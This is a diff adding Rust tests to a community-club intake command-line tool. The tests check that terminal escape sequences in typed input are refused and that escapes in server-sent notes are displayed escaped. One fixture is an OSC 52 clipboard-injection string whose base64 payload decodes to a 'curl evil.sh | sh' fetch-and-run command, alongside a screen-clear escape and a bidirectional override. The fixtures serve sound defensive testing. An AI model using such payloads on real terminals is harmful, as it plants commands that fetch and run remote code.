@@ -1129,3 +1129,147 @@ fn not_found_repeats_an_id_but_never_a_name_typed_in_its_place() {
         stderr(&out)
     );
 }
+
+/// An OSC 52 clipboard write (the terminal would put a command line on the clipboard), a
+/// screen clear, and a right-to-left override.
+const INJECTED: &str = "Đã nhận \u{1b}]52;c;Y3VybCBldmlsLnNoIHwgc2g=\u{7} \u{1b}[2J \u{202e}gnol";
+
+fn no_raw_controls(what: &str, text: &str) {
+    for c in ['\u{1b}', '\u{7}', '\u{202e}', '\u{9b}'] {
+        assert!(!text.contains(c), "{what}: raw {c:?} in {text:?}");
+    }
+}
+
+#[test]
+fn text_typed_with_terminal_escapes_is_refused() {
+    let env = Env::new();
+    let club = env.with_club();
+    let today = Utc::now().date_naive().to_string();
+    let topic = "Di cư an toàn \u{1b}]52;c;Y3VybCBldmlsLnNoIHwgc2g=\u{7}";
+    let out = env.run(&[
+        "meeting",
+        "add",
+        "--club",
+        &club,
+        "--date",
+        &today,
+        "--topic",
+        topic,
+        "--place",
+        "Nhà văn hóa",
+        "--facilitator",
+        "Lò Thị Mai",
+    ]);
+    assert_eq!(out.status.code(), Some(EXIT_INVALID));
+    let err = stderr(&out);
+    no_raw_controls("stderr", &err);
+    assert!(
+        err.contains("--topic") && err.contains("ký tự điều khiển"),
+        "{err}"
+    );
+    assert!(!err.contains("Di cư"), "the value is echoed: {err}");
+    let out = env.run(&[
+        "--lang",
+        "en",
+        "member",
+        "add",
+        "--club",
+        &club,
+        "--name",
+        "Vi Thị \u{202e}aoH",
+        "--ethnic-group",
+        "Thái",
+        "--village",
+        "Bản Chai",
+    ]);
+    assert_eq!(out.status.code(), Some(EXIT_INVALID));
+    assert!(
+        stderr(&out).contains("--name holds a bidirectional text control"),
+        "{}",
+        stderr(&out)
+    );
+    assert!(
+        env.json(&["meeting", "list", "--club", &club])
+            .as_array()
+            .unwrap()
+            .is_empty()
+    );
+}
+
+#[test]
+fn a_status_note_with_terminal_escapes_from_the_server_is_shown_escaped() {
+    use chungtay_intake::admin;
+    let (server, province_dir) = province();
+    let url = server.url("");
+    let env = Env::new();
+    let club = env.with_club();
+    let code = admin::issue_code(province_dir.path()).unwrap().code;
+    let out = env
+        .cmd()
+        .env("CHUNGTAY_PIN", PIN)
+        .env("CHUNGTAY_ENROLL_CODE", &code)
+        .args(["enroll", "--server", &url])
+        .output()
+        .unwrap();
+    succeeded(&["enroll"], out);
+    let hoa = env.add_member(&club, "Vi Thị Hoa", "Thái", &[]);
+    let consent = env.json(&[
+        "consent",
+        "add",
+        "--member",
+        &hoa,
+        "--purpose",
+        "loans",
+        "--field",
+        "name",
+    ]);
+    let referral = env.json(&[
+        "referral",
+        "create",
+        "--member",
+        &hoa,
+        "--service",
+        "loans",
+        "--share",
+        "name",
+        "--consent",
+        consent["id"].as_str().unwrap(),
+    ]);
+    let id = referral["id"].as_str().unwrap();
+    env.ok(&["referral", "ready", id]);
+    env.ok(&["referral", "send", id]);
+    env.ok(&["sync", "--now"]);
+
+    // The province (or whoever holds its staff token, or answers in its place) writes the
+    // note: the phone stores it as the server sent it.
+    chungtay_intake::install_crypto_provider();
+    let token = admin::staff_token(province_dir.path(), "test").unwrap();
+    let resp = reqwest::blocking::Client::new()
+        .post(server.url(&format!("/v1/staff/referrals/{id}/transition")))
+        .bearer_auth(&token)
+        .json(&serde_json::json!({ "state": "accepted", "note": INJECTED }))
+        .send()
+        .unwrap();
+    assert!(resp.status().is_success(), "{}", resp.status());
+    env.ok(&["sync"]);
+
+    // People see the note, with the escapes shown, not run.
+    for lang in ["vi", "en"] {
+        let text = env.ok(&["--lang", lang, "referral", "show", id]);
+        no_raw_controls("referral show", &text);
+        assert!(
+            text.contains(
+                "Đã nhận \\u{1b}]52;c;Y3VybCBldmlsLnNoIHwgc2g=\\u{7} \\u{1b}[2J \\u{202e}gnol"
+            ),
+            "{text}"
+        );
+    }
+    // JSON stays valid, holds the note as sent, and carries no raw bidi override either.
+    let out = env.ok(&["referral", "show", id, "--json"]);
+    no_raw_controls("--json", &out);
+    let v: Value = serde_json::from_str(&out).unwrap();
+    assert_eq!(
+        v["history"].as_array().unwrap().last().unwrap()["note"],
+        INJECTED
+    );
+}
